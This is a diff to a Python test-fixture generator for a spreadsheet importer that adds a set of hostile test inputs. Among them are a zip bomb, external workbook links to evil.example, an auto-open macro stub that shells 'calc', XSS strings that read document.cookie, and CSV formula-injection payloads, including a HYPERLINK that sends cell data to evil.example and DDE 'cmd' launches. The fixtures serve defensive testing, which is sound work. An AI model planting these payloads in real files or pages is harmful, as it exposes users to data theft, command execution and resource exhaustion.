@@ -175,7 +175,131 @@ def main() -> None:
     # merit: a score above its aspect maximum and an unknown aspect
     merit = "Instansi;Periode;Tahap;Aspek;Nilai\nPemerintah Kabupaten Ende;2025;Mandiri;Perlindungan dan Pelayanan;17\nPemerintah Kabupaten Ende;2025;Mandiri;Aspek Khayalan;10\n"
     (BAD / "merit_bad.csv").write_text(merit, encoding="utf-8")
+
+    hostile()
     print("fixtures written", dt.datetime.now().isoformat(timespec="seconds"))
+
+
+def _xlsx_parts(rows: list[list[object]], header: list[str] = HEADER) -> dict[str, bytes]:
+    """The parts of a small real workbook, to be edited by hand like a hostile tool would."""
+    buf = io.BytesIO()
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(header)
+    for r in rows:
+        ws.append(r)
+    wb.save(buf)
+    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    return {name: z.read(name) for name in z.namelist()}
+
+
+def _write_zip(path: Path, parts: dict[str, bytes], level: int = 6) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
+        for name, blob in parts.items():
+            out.writestr(name, blob)
+
+
+def hostile() -> None:
+    """Hostile and broken input (tests/test_hostile.py): each gets a clear message or loads inertly."""
+    # an enormous cell: a 5 MB name (as a paste accident or an attack on memory/rendering)
+    big = [r[:] for r in ROWS]
+    big[0][1] = "A" * 5_000_000
+    (BAD / "huge_cell.csv").write_text(csv_text(big, ";"), encoding="utf-8")
+    # 1,000 columns: the nine known ones and 991 unknown
+    wide_header = HEADER + [f"Kolom {i}" for i in range(991)]
+    wide_rows = [r + [str(i) for i in range(991)] for r in ROWS]
+    (BAD / "wide_1000_columns.csv").write_text(csv_text(wide_rows, ";", wide_header), encoding="utf-8")
+    # binary garbage with a .csv name (seeded, so the file is stable)
+    import random
+
+    rnd = random.Random(20250101)
+    (BAD / "garbage_random.csv").write_bytes(bytes(rnd.getrandbits(8) for _ in range(64_000)))
+    # a zip bomb: a real workbook whose sheet part expands to 200 MB of whitespace (~200 KB on disk)
+    parts = _xlsx_parts(ROWS)
+    sheet = parts["xl/worksheets/sheet1.xml"]
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 200_000_000, 1)
+    _write_zip(BAD / "zip_bomb.xlsx", parts, level=9)
+    # formulas and an external link: =HYPERLINK, a formula reading another workbook over http
+    parts = _xlsx_parts(
+        [
+            r + [f]
+            for r, f in zip(
+                ROWS, ['=HYPERLINK("http://evil.example/x","klik")', "=[1]Sheet1!A1", "=1+1"], strict=True
+            )
+        ],
+        HEADER + ["Catatan"],
+    )
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
+    )
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+        b'Target="http://evil.example/data.xlsx" TargetMode="External"/></Relationships>'
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
+        b'Target="externalLinks/externalLink1.xml"/></Relationships>',
+    )
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"</sheets>",
+        b'</sheets><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>',
+        1,
+    )
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
+        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+    )
+    _write_zip(BAD / "external_links.xlsx", parts)
+    # a macro-enabled workbook: a vbaProject.bin part (an OLE header and an auto-open marker)
+    parts = _xlsx_parts(ROWS)
+    parts["xl/vbaProject.bin"] = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Sub Auto_Open()\nShell "calc"\nEnd Sub\n'
+    )
+    parts["[Content_Types].xml"] = (
+        parts["[Content_Types].xml"]
+        .replace(
+            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+        )
+        .replace(
+            b"</Types>",
+            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+        )
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        b'Target="vbaProject.bin"/></Relationships>',
+    )
+    _write_zip(BAD / "macros.xlsm", parts)
+    # names carrying HTML/JS: must be shown as text, never rendered
+    html = [r[:] for r in ROWS]
+    html[0][1] = "<script>alert(1)</script>"
+    html[1][1] = '<img src=x onerror="alert(document.cookie)">'
+    html[2][3] = "<b>Sekretariat</b> [klik](javascript:alert(1)) ![x](http://evil.example/p.png)"
+    (BAD / "html_names.csv").write_text(csv_text(html, ";"), encoding="utf-8")
+    # CSV/formula injection payloads in text cells (quoted so the separators inside survive)
+    payloads = [
+        '=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    inj = [r[:] for r in ROWS]
+    for r, payload in zip(inj, payloads, strict=True):
+        r[1] = '"' + payload + '"'
+    inj[2][4] = "-2+3+cmd|' /C calc'!A0"
+    (BAD / "formula_payloads.csv").write_text(csv_text(inj, ";"), encoding="utf-8")
+    # mixed encodings: the first rows saved as UTF-8, a later row appended from a Windows-1252 tool
+    first = csv_text([ROWS[0], [ROWS[1][0], "Maria Goreti Bría", *ROWS[1][2:]]], ";")
+    last = ";".join(str(c) for c in [ROWS[2][0], "Yohanes Nggadas Ñañez", *ROWS[2][2:]]) + "\n"
+    (BAD / "mixed_encoding.csv").write_bytes(first.encode("utf-8") + last.encode("cp1252"))
 
 
 if __name__ == "__main__":
